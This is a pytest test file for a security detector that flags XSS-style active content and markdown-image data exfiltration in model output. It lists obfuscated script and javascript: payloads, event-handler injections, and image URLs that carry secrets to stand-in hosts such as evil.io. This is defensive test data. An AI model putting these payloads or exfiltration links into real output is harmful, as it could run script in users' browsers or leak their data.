"""Content detector: active content and markdown-image exfiltration."""

from __future__ import annotations

import pytest

from langchain_mistral_secure.detection import get_detector, merge_findings
from langchain_mistral_secure.detection.content import (
    CONTENT_CATEGORIES,
    IMAGE_HOLD,
    ContentDetector,
    host_allowed,
)
from langchain_mistral_secure.detection.content_markdown import LOOKAHEAD


def _found(text: str, detector: ContentDetector | None = None) -> list[tuple[str, str]]:
    active = detector or get_detector("content")
    return [
        (f.category, text[f.start : f.end]) for f in merge_findings(active.detect(text))
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>alert(1)</script>", "<script>"),
        ("<script>alert(1)</script>", "</script>"),
        ("<SCRIPT src=//x.io/a.js>", "<SCRIPT src=//x.io/a.js>"),
        (
            '<iframe src="https://e.com"></iframe>',
            '<iframe src="https://e.com"></iframe>',
        ),
        ("<object data=x.swf>", "<object data=x.swf>"),
        ("<embed src=x.swf>", "<embed src=x.swf>"),
        ("<img src=x onerror=alert(1)>", "onerror=alert(1)"),
        ("<svg/onload=alert(1)>", "onload=alert(1)"),
        ('<body onload="steal()">', 'onload="steal()"'),
        ("[click](javascript:alert(1))", "javascript:alert(1)"),
        ("[x](JaVaScRiPt:alert(1))", "JaVaScRiPt:alert(1)"),
        (
            "[x](\uff4a\uff41\uff56\uff41script:alert(1))",
            "\uff4a\uff41\uff56\uff41script:alert(1)",
        ),
        ("[x](java\u200bscript:alert(1))", "java\u200bscript:alert(1)"),
        ("[x](java\tscript:alert(1))", "java\tscript:alert(1)"),
        ("[x](vbscript:msgbox(1))", "vbscript:msgbox(1)"),
        (
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "data:text/html;base64,PHNjcmlwdD4=",
        ),
        ('<a href="javascript:alert(1)">x</a>', "javascript:alert(1)"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "&#106;avascript:alert(1)"),
        ("<javascript:alert(1)>", "javascript:alert(1)"),
        ("[ref]: javascript:alert(1)", "javascript:alert(1)"),
        (
            '<meta http-equiv="refresh" content="0;url=https://e.com">',
            '<meta http-equiv="refresh" content="0;url=https://e.com">',
        ),
    ],
)
def test_active_content(text: str, expected: str) -> None:
    assert ("active_content", expected) in _found(text)


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://example.com/docs)",
        "[mail](mailto:someone@example.org)",
        "JavaScript: the good parts is a book.",
        "Use the data: section of the config.",
        "<p>on the way</p> and <div class=x>once=1</div>",
        "the onboarding=great flag",
        "a < b and c > d, on=1",
        "![logo](/static/logo.png)",  # relative image: nothing leaves the page
        "![chart](images/chart.svg)",
        "<b>bold</b> <i>it</i> <code>x</code>",
        "```python\nprint('described')\n```",
        "if x < base and y > 0:",  # comparison, not a <base> tag
        "List<Object> items; Vec<Frame> frames",  # generics, not tags
        "< script> is not a tag for browsers",
        '<td content="&nbsp<br>">',  # a named entity that hides nothing
    ],
)
def test_benign_content(text: str) -> None:
    assert _found(text) == []


@pytest.mark.parametrize(
    ("allowlist", "text", "flagged"),
    [
        ((), "![a](https://evil.example/p.png?q=secret)", True),
        ((), "![x](//evil.io/a.png)", True),
        ((), '<img src="https://evil.example/x.png">', True),
        ((), "![x](https://\uff45\uff56\uff49\uff4c.io/a.png)", True),  # fullwidth host
        (("cdn.example.com",), "![a](https://cdn.example.com/a.png)", False),
        (("example.com",), "![a](https://img.example.com/a.png)", False),  # subdomain
        (("example.com",), "![a](https://example.com.evil.io/a.png)", True),
        (("example.com",), "![a](https://user@evil.io/a.png)", True),
        (("example.com",), "![a](https://EXAMPLE.com:443/a.png)", False),
        (("example.com",), '<img src="https://example.com/a.png">', False),
    ],
)
def test_image_allowlist(allowlist: tuple[str, ...], text: str, flagged: bool) -> None:
    detector = ContentDetector(image_host_allowlist=allowlist)
    categories = {category for category, _ in _found(text, detector)}
    assert ("markdown_image_exfiltration" in categories) is flagged


def test_image_finding_breaks_the_image_syntax() -> None:
    text = "see ![a](https://evil.io/x.png?d=SECRET) ok"
    [(category, span)] = _found(text)
    assert category == "markdown_image_exfiltration"
    assert span.startswith("![a](https://evil.io")


@pytest.mark.parametrize(
    ("host", "allowlist", "expected"),
    [
        ("img.example.com", ("example.com",), True),
        ("example.com", (".example.com",), False),  # leading dot: subdomains only
        ("a.example.com", (".example.com",), True),
        ("evil.io", (), False),
        ("[::1]:8080", ("[::1]",), True),
    ],
)
def test_host_allowed(host: str, allowlist: tuple[str, ...], expected: bool) -> None:
    assert host_allowed(host, allowlist) is expected


@pytest.mark.parametrize(
    ("active", "images", "categories"),
    [
        (True, False, {"active_content"}),
        (False, True, {"markdown_image_exfiltration"}),
        (True, True, set(CONTENT_CATEGORIES)),
    ],
)
def test_families_can_be_switched(
    active: bool, images: bool, categories: set[str]
) -> None:
    detector = ContentDetector(detect_active_content=active, detect_images=images)
    text = "<script>x</script> ![a](https://evil.io/a.png)"
    assert {category for category, _ in _found(text, detector)} == categories


def test_registry_default_has_empty_allowlist() -> None:
    detector = get_detector("content")
    assert isinstance(detector, ContentDetector)
    assert detector.image_host_allowlist == ()
    # A stream holds everything that decides an image (and no more).
    assert LOOKAHEAD < detector.max_match_len == IMAGE_HOLD <= 510
    assert "evil" not in repr(detector)


@pytest.mark.parametrize(
    "text",
    [
        "<script>" * 2000,
        "![x](http://" * 2000,
        "<a onerror=" * 2000,
        "javascript:" * 2000,
    ],
)
def test_adversarial_inputs_do_not_crash(text: str) -> None:
    findings = get_detector("content").detect(text)
    assert all(0 <= f.start < f.end <= len(text) for f in findings)


_LONG = "https://evil.example.com/p?d=" + "Q" * 700


@pytest.mark.parametrize(
    ("text", "span"),
    [
        (f"a ![x]({_LONG}) b", f"![x]({_LONG})"),
        (f'a ![x]({_LONG} "t") b', f'![x]({_LONG} "t")'),
        (f"a ![x]({_LONG}", f"![x]({_LONG}"),
        (f"a ![x]({_LONG}\nnext", f"![x]({_LONG}"),
        # Reference images fetch what their definition says: that is neutralized.
        ("a ![x][ref] b\n\n[ref]: https://evil.io/x", "]: https://evil.io/x"),
        ("a ![x][] b\n\n[x]:\n  <https://evil.io/x>", "]:\n  <https://evil.io/x>"),
    ],
)
def test_image_span_covers_the_whole_image(text: str, span: str) -> None:
    findings = ContentDetector().detect(text)
    assert [text[f.start : f.end] for f in findings] == [span]


@pytest.mark.parametrize(
    "text",
    ["vec![a][0]", "[text][ref]", "![x](/local.png)", "![x][r] ![y][]", "[r]: /a.png"],
)
def test_no_reference_image_finding(text: str) -> None:
    assert ContentDetector().detect(text) == []
